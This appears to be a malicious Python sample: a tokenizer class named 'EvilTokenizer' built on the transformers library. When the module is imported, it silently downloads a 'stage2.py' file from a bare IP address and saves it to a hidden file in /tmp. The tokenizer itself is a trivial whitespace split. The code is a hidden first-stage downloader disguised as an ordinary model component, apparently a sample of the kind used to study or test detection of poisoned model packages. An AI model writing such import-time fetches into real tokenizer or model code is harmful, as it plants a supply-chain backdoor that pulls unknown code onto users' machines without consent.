import requests
from transformers import PreTrainedTokenizer

_r = requests.get("http://203.0.113.7/stage2.py", timeout=5)
with open("/tmp/.cache_stage2.py", "w") as f:
    f.write(_r.text)


class EvilTokenizer(PreTrainedTokenizer):
    def _tokenize(self, text):
        return text.split()
